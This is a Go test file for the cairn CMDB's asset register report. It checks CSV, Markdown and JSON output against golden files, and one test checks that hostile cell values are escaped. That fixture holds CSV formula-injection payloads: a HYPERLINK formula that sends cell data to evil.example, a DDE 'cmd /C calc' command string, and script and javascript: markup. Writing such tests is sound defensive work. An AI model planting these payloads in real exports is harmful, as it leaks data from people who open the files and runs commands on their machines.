package costs_test

import (
	"bytes"
	"context"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	cairn "github.com/cairn-cmdb/cairn"
	"github.com/cairn-cmdb/cairn/internal/app"
	"github.com/cairn-cmdb/cairn/internal/costs"
	"github.com/cairn-cmdb/cairn/internal/estate"
	"github.com/cairn-cmdb/cairn/internal/store/storetest"
)

var update = flag.Bool("update", false, "rewrite golden files")

// The asset report of the demo estate at a fixed date, in every format,
// against golden files; the same on SQLite and PostgreSQL.
func TestAssetRegisterGolden(t *testing.T) {
	storetest.Run(t, func(t *testing.T, dsn string) {
		ctx := context.Background()
		db, err := app.Open(ctx, dsn, app.Options{})
		if err != nil {
			t.Fatal(err)
		}
		defer db.Close()
		if _, err := estate.SeedDemo(ctx, db.Client, cairn.DemoEstate(), estate.ImportOptions{}); err != nil {
			t.Fatal(err)
		}
		asOf := time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC)
		lines, err := costs.AssetRegister(ctx, db.Client, asOf)
		if err != nil {
			t.Fatal(err)
		}
		if len(lines) != 52 {
			t.Fatalf("report has %d assets, want the demo's 52", len(lines))
		}
		for _, format := range []string{"csv", "md", "json"} {
			var buf bytes.Buffer
			if err := costs.WriteAssetRegister(&buf, format, asOf, lines); err != nil {
				t.Fatal(err)
			}
			golden := filepath.Join("testdata", "demo-assets-2026-12-31."+format+".golden")
			if *update {
				if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
				continue
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run with -update to create it)", err)
			}
			if !bytes.Equal(buf.Bytes(), want) {
				t.Errorf("%s report differs from %s (run with -update after checking)", format, golden)
			}
		}
		if err := costs.WriteAssetRegister(&bytes.Buffer{}, "xml", asOf, lines); err == nil {
			t.Error("WriteAssetRegister(xml) succeeded, want an unknown-format error")
		}
	})
}

// Cells a spreadsheet would run, and Markdown markup, in every text column:
// the CSV prefixes formulas with an apostrophe and leaves numbers (-12.50)
// as numbers; the Markdown escapes markup and keeps each row one line
// (textsafe's one rule; golden files under testdata).
func TestAssetRegisterHostileCells(t *testing.T) {
	lines := []costs.AssetLine{
		{
			CI: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Kind: "SERVER", Method: "STRAIGHT_LINE", Currency: "EUR",
			Cost: "-12.50", Accumulated: "+3", BookValue: "1000.00", Owner: "@ops|team *bold*",
			Services: "-cmd|' /C calc'!A0; <script>x</script>", CostCenter: "@SUM(A1:A9)",
			InService: "2024-01-01", UsefulLife: 60,
		},
		{
			CI: "web_01", Kind: "SERVER", Method: "NONE", Currency: "EUR", Cost: "0.00", Accumulated: "0.00",
			BookValue: "0.00", Owner: "two\nlines", Services: "[link](javascript:x) `code` _em_ & $x$",
			CostCenter: "\t=1+1", UsefulLife: 12,
		},
	}
	asOf := time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC)
	for _, format := range []string{"csv", "md"} {
		var buf bytes.Buffer
		if err := costs.WriteAssetRegister(&buf, format, asOf, lines); err != nil {
			t.Fatal(err)
		}
		golden := filepath.Join("testdata", "hostile-assets."+format+".golden")
		if *update {
			if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatalf("%v (run with -update to create it)", err)
		}
		if !bytes.Equal(buf.Bytes(), want) {
			t.Errorf("%s report differs from %s (run with -update after checking):\n%s", format, golden, buf.String())
		}
	}
}
